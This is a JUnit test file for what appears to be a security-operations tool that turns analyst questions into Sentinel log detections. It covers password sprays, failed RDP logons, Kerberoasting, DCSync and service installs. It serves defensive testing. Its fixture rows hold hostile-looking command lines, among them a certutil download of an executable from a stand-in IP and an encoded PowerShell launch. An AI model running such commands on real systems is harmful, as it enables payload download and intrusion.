package com.socmate.adapters.sentinel;

import static org.assertj.core.api.Assertions.assertThat;

import com.socmate.domain.investigation.Outcome;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// Each kind of event over a few rows of its table: those that are one, and those that only look
/// like one.
class EventKindsTest {
  private static final Instant NOW = Instant.parse("2026-03-04T15:20:00Z");
  private static final int LONG_AGO = 60 * 24 * 40;

  /// @param found the key values of each finding, sorted and joined
  record Case(String question, String table, List<Map<String, Object>> rows, List<String> found) {
    @Override
    public String toString() {
      return question;
    }

    Case row(int minutesAgo, Object... columnsAndValues) {
      var row = new HashMap<String, Object>();
      row.put("TimeGenerated", NOW.minus(Duration.ofMinutes(minutesAgo)).toString());
      for (int index = 0; index < columnsAndValues.length; index += 2) {
        row.put(String.valueOf(columnsAndValues[index]), columnsAndValues[index + 1]);
      }
      var more = new ArrayList<>(rows);
      more.add(row);
      return new Case(question, table, more, found);
    }

    Case rows(int count, int firstMinutesAgo, int apart, Object... columnsAndValues) {
      var all = this;
      for (int n = 0; n < count; n++) {
        all = all.row(firstMinutesAgo - n * apart, columnsAndValues);
      }
      return all;
    }
  }

  private static Case asked(String question, String table, String... found) {
    return new Case(question, table, List.of(), List.of(found));
  }

  static List<Case> cases() {
    var all = new ArrayList<Case>();
    signIns(all);
    windows(all);
    directory(all);
    return all;
  }

  private static void signIns(List<Case> all) {
    all.add(
        asked(
                "Source IPs that tried 3 or more disabled accounts (50057) in the last 24 hours",
                "SigninLogs",
                "192.0.2.1")
            .row(
                60,
                "ResultType",
                "50057",
                "IPAddress",
                "192.0.2.1",
                "UserPrincipalName",
                "user001@contoso.example")
            .row(
                61,
                "ResultType",
                "50057",
                "IPAddress",
                "192.0.2.1",
                "UserPrincipalName",
                "USER002@contoso.example")
            .row(
                62,
                "ResultType",
                "50057",
                "IPAddress",
                "192.0.2.1",
                "UserPrincipalName",
                "user003@contoso.example")
            .rows(
                9,
                90,
                1,
                "ResultType",
                "50057",
                "IPAddress",
                "192.0.2.2",
                "UserPrincipalName",
                "user001@contoso.example")
            .row(
                60,
                "ResultType",
                "50057",
                "IPAddress",
                "192.0.2.3",
                "UserPrincipalName",
                "user001@contoso.example")
            .row(
                61,
                "ResultType",
                "50126",
                "IPAddress",
                "192.0.2.3",
                "UserPrincipalName",
                "user002@contoso.example")
            .row(
                LONG_AGO,
                "ResultType",
                "50057",
                "IPAddress",
                "192.0.2.3",
                "UserPrincipalName",
                "user003@contoso.example"));
    all.add(
        asked(
                "Successful sign-ins with legacy authentication per user in the last 7 days",
                "SigninLogs",
                "user001@contoso.example")
            .row(
                60,
                "ResultType",
                "0",
                "ClientAppUsed",
                "IMAP4",
                "UserPrincipalName",
                "user001@contoso.example")
            .row(
                60,
                "ResultType",
                "50126",
                "ClientAppUsed",
                "IMAP4",
                "UserPrincipalName",
                "user002@contoso.example")
            .row(
                60,
                "ResultType",
                "0",
                "ClientAppUsed",
                "Browser",
                "UserPrincipalName",
                "user003@contoso.example"));
    all.add(
        asked(
                "Users with at least 5 denied MFA prompts in the last 24 hours",
                "SigninLogs",
                "user001@contoso.example")
            .rows(5, 60, 1, "ResultType", "500121", "UserPrincipalName", "user001@contoso.example")
            .rows(4, 60, 1, "ResultType", "500121", "UserPrincipalName", "user002@contoso.example")
            .rows(9, 60, 1, "ResultType", "50074", "UserPrincipalName", "user003@contoso.example"));
    all.add(
        asked(
                "More than 4 failed sign-ins per user within 10 minutes, over the last 24 hours",
                "SigninLogs",
                "user001@contoso.example")
            .rows(5, 200, 2, "ResultType", "50126", "UserPrincipalName", "user001@contoso.example")
            .rows(5, 200, 3, "ResultType", "50126", "UserPrincipalName", "user002@contoso.example")
            .rows(4, 200, 1, "ResultType", "50126", "UserPrincipalName", "user003@contoso.example")
            .rows(
                3, 206, 1, "ResultType", "50126", "UserPrincipalName", "user004@contoso.example"));
    all.add(
        asked(
                "Accounts with 4 or more failed sign-ins followed by a success within 20 minutes, over the past day",
                "SigninLogs",
                "user001@contoso.example")
            .rows(4, 200, 1, "ResultType", "50126", "UserPrincipalName", "user001@contoso.example")
            .row(190, "ResultType", "0", "UserPrincipalName", "user001@contoso.example")
            .rows(4, 200, 1, "ResultType", "50126", "UserPrincipalName", "user002@contoso.example")
            .row(160, "ResultType", "0", "UserPrincipalName", "user002@contoso.example")
            .rows(4, 200, 1, "ResultType", "50126", "UserPrincipalName", "user003@contoso.example")
            .row(205, "ResultType", "0", "UserPrincipalName", "user003@contoso.example")
            .rows(3, 200, 1, "ResultType", "50126", "UserPrincipalName", "user004@contoso.example")
            .row(190, "ResultType", "0", "UserPrincipalName", "user004@contoso.example"));
    all.add(
        asked(
                "Failed sign-ins of user005@contoso.example from 198.51.100.0/24, at least 2 per IP, last 24 hours",
                "SigninLogs",
                "198.51.100.7")
            .rows(
                2,
                60,
                1,
                "ResultType",
                "50126",
                "IPAddress",
                "198.51.100.7",
                "UserPrincipalName",
                "User005@contoso.example")
            .rows(
                2,
                60,
                1,
                "ResultType",
                "50126",
                "IPAddress",
                "198.51.101.7",
                "UserPrincipalName",
                "user005@contoso.example")
            .rows(
                2,
                60,
                1,
                "ResultType",
                "50126",
                "IPAddress",
                "198.51.100.8",
                "UserPrincipalName",
                "user006@contoso.example"));
  }

  private static void windows(List<Case> all) {
    all.add(
        asked(
                "Failed RDP logons, at least 3 from one address, in the last 24 hours",
                "SecurityEvent",
                "10.0.0.1")
            .rows(3, 60, 1, "EventID", 4625, "LogonType", 10, "IpAddress", "10.0.0.1")
            .rows(3, 60, 1, "EventID", 4625, "LogonType", 3, "IpAddress", "10.0.0.2")
            .rows(3, 60, 1, "EventID", 4624, "LogonType", 10, "IpAddress", "10.0.0.3")
            .rows(9, 60, 1, "EventID", 4625, "LogonType", 10, "IpAddress", "-"));
    all.add(
        asked(
                "More than 2 account lockouts per user in the last 24 hours",
                "SecurityEvent",
                "CONTOSO\\user001")
            .rows(3, 60, 1, "EventID", 4740, "TargetAccount", "CONTOSO\\user001")
            .rows(2, 60, 1, "EventID", 4740, "TargetAccount", "CONTOSO\\user002"));
    all.add(
        asked(
                "Services installed in the last 24 hours on srv-app01",
                "SecurityEvent",
                "CONTOSO\\adm01, PSEXESVC, SRV-APP01")
            .row(
                60,
                "EventID",
                4697,
                "Computer",
                "SRV-APP01",
                "ServiceName",
                "PSEXESVC",
                "Account",
                "CONTOSO\\adm01")
            .row(
                60,
                "EventID",
                4697,
                "Computer",
                "SRV-APP02",
                "ServiceName",
                "PSEXESVC",
                "Account",
                "CONTOSO\\adm01"));
    all.add(
        asked(
                "Scheduled tasks created in the past 3 days",
                "SecurityEvent",
                "CONTOSO\\adm01, SRV-APP01, \\Updater")
            .row(
                60,
                "EventID",
                4698,
                "Computer",
                "SRV-APP01",
                "Account",
                "CONTOSO\\adm01",
                "EventData",
                "<EventData><Data Name=\"TaskName\">\\Updater</Data></EventData>")
            .row(60, "EventID", 4699, "Computer", "SRV-APP02", "Account", "CONTOSO\\adm01"));
    all.add(
        asked(
                "Members added to administrator groups in the last day",
                "SecurityEvent",
                "Administrators, S-1-5-21-7, WS-001")
            .row(
                60,
                "EventID",
                4732,
                "Computer",
                "WS-001",
                "TargetUserName",
                "Administrators",
                "MemberName",
                "-",
                "MemberSid",
                "S-1-5-21-7")
            .row(
                60,
                "EventID",
                4732,
                "Computer",
                "WS-001",
                "TargetUserName",
                "Users",
                "MemberName",
                "-",
                "MemberSid",
                "S-1-5-21-8"));
    all.add(
        asked(
                "Kerberoasting: accounts that requested RC4 tickets for at least 2 services, last 24 hours",
                "SecurityEvent",
                "CONTOSO\\user001")
            .row(
                60,
                "EventID",
                4769,
                "Account",
                "CONTOSO\\user001",
                "ServiceName",
                "sql1",
                "EventData",
                ticket("0x17"))
            .row(
                61,
                "EventID",
                4769,
                "Account",
                "CONTOSO\\user001",
                "ServiceName",
                "sql2",
                "EventData",
                ticket("0x17"))
            .row(
                60,
                "EventID",
                4769,
                "Account",
                "CONTOSO\\user002",
                "ServiceName",
                "sql1",
                "EventData",
                ticket("0x12"))
            .row(
                61,
                "EventID",
                4769,
                "Account",
                "CONTOSO\\user002",
                "ServiceName",
                "sql2",
                "EventData",
                ticket("0x12"))
            .row(
                60,
                "EventID",
                4769,
                "Account",
                "CONTOSO\\user003",
                "ServiceName",
                "SRV$",
                "EventData",
                ticket("0x17"))
            .row(
                61,
                "EventID",
                4769,
                "Account",
                "CONTOSO\\user003",
                "ServiceName",
                "sql2",
                "EventData",
                ticket("0x17")));
    all.add(
        asked(
                "PowerShell started with an encoded command in the last 24 hours",
                "SecurityEvent",
                "CONTOSO\\user001, WS-001")
            .row(
                60,
                "EventID",
                4688,
                "Computer",
                "WS-001",
                "Account",
                "CONTOSO\\user001",
                "NewProcessName",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "CommandLine",
                "powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A")
            .row(
                60,
                "EventID",
                4688,
                "Computer",
                "WS-002",
                "Account",
                "CONTOSO\\user002",
                "NewProcessName",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "CommandLine",
                "powershell.exe -ExecutionPolicy Bypass -File C:\\tools\\a.ps1")
            .row(
                60,
                "EventID",
                4688,
                "Computer",
                "WS-003",
                "Account",
                "CONTOSO\\user003",
                "NewProcessName",
                "C:\\Windows\\System32\\cmd.exe",
                "CommandLine",
                "cmd.exe -enc SQBFAFgAIAAoAE4AZQB3AC0A"));
    all.add(
        asked("LOLBins in the last 24 hours", "SecurityEvent", "CONTOSO\\user001, WS-001")
            .row(
                60,
                "EventID",
                4688,
                "Computer",
                "WS-001",
                "Account",
                "CONTOSO\\user001",
                "NewProcessName",
                "C:\\Windows\\System32\\certutil.exe",
                "CommandLine",
                "certutil -urlcache -f http://192.0.2.1/a.exe a.exe")
            .row(
                60,
                "EventID",
                4688,
                "Computer",
                "WS-002",
                "Account",
                "CONTOSO\\user002",
                "NewProcessName",
                "C:\\Windows\\System32\\certutil.exe",
                "CommandLine",
                "certutil -store my"));
    all.add(
        asked("DCSync in the last 7 days", "SecurityEvent", "CONTOSO\\user001")
            .row(
                60,
                "EventID",
                4662,
                "SubjectAccount",
                "CONTOSO\\user001",
                "SubjectUserName",
                "user001",
                "Properties",
                "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}")
            .row(
                60,
                "EventID",
                4662,
                "SubjectAccount",
                "CONTOSO\\SRV-DC01$",
                "SubjectUserName",
                "SRV-DC01$",
                "Properties",
                "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}")
            .row(
                60,
                "EventID",
                4662,
                "SubjectAccount",
                "CONTOSO\\user002",
                "SubjectUserName",
                "user002",
                "Properties",
                "{bf967aba-0de6-11d0-a285-00aa003049e2}"));
  }

  private static String ticket(String encryption) {
    return "<EventData><Data Name=\"TicketEncryptionType\">" + encryption + "</Data></EventData>";
  }

  private static void directory(List<Case> all) {
    all.add(
        asked(
                "New directory role assignments in the last 24 hours",
                "AuditLogs",
                "adm01@contoso.example, user009@contoso.example")
            .row(
                60,
                change(
                    "Add member to role",
                    "success",
                    "adm01@contoso.example",
                    "user009@contoso.example"))
            .row(
                60,
                change(
                    "Add member to role",
                    "failure",
                    "adm01@contoso.example",
                    "user010@contoso.example"))
            .row(
                60,
                change(
                    "Add member to group",
                    "success",
                    "adm01@contoso.example",
                    "user011@contoso.example"))
            .row(
                LONG_AGO,
                change(
                    "Add member to role",
                    "success",
                    "adm01@contoso.example",
                    "user012@contoso.example")));
    all.add(
        asked(
                "Consent granted to applications in the last 7 days",
                "AuditLogs",
                "user001@contoso.example, user009@contoso.example")
            .row(
                60,
                change(
                    "Consent to application",
                    "success",
                    "user001@contoso.example",
                    "user009@contoso.example"))
            .row(
                60,
                change(
                    "Update application",
                    "success",
                    "user001@contoso.example",
                    "user010@contoso.example")));
    all.add(
        asked(
                "Callers that deleted at least 2 Azure resources in the last 24 hours",
                "AzureActivity",
                "adm01@contoso.example")
            .row(
                60,
                "OperationNameValue",
                "MICROSOFT.COMPUTE/DISKS/DELETE",
                "ActivityStatusValue",
                "Success",
                "Caller",
                "adm01@contoso.example",
                "_ResourceId",
                "/disks/a")
            .row(
                61,
                "OperationNameValue",
                "MICROSOFT.COMPUTE/DISKS/DELETE",
                "ActivityStatusValue",
                "Success",
                "Caller",
                "adm01@contoso.example",
                "_ResourceId",
                "/disks/b")
            .row(
                60,
                "OperationNameValue",
                "MICROSOFT.COMPUTE/DISKS/DELETE",
                "ActivityStatusValue",
                "Start",
                "Caller",
                "adm02@contoso.example",
                "_ResourceId",
                "/disks/c")
            .row(
                61,
                "OperationNameValue",
                "MICROSOFT.COMPUTE/DISKS/DELETE",
                "ActivityStatusValue",
                "Success",
                "Caller",
                "adm02@contoso.example",
                "_ResourceId",
                "/disks/c")
            .row(
                60,
                "OperationNameValue",
                "MICROSOFT.COMPUTE/DISKS/WRITE",
                "ActivityStatusValue",
                "Success",
                "Caller",
                "adm03@contoso.example",
                "_ResourceId",
                "/disks/d"));
  }

  private static Object[] change(String operation, String result, String actor, String target) {
    return new Object[] {
      "OperationName",
      operation,
      "Result",
      result,
      "InitiatedBy",
      Map.of("user", Map.of("userPrincipalName", actor)),
      "TargetResources",
      List.of(Map.of("userPrincipalName", target))
    };
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void only_what_is_one_is_found(Case it) {
    var result = Enquiry.at(NOW, new RowsWorkspace(Map.of(it.table(), it.rows())), it.question());
    assertThat(
            result.conclusion().findings().stream()
                .map(finding ->
                    finding.key().values().stream()
                        .filter(value -> !value.isEmpty())
                        .sorted()
                        .collect(Collectors.joining(", ")))
                .toList())
        .containsExactlyInAnyOrderElementsOf(new TreeSet<>(it.found()));
    assertThat(result.conclusion().outcome()).isEqualTo(Outcome.FINDINGS);
    assertThat(result.report()).doesNotContain("struck", "could not be checked");
  }
}
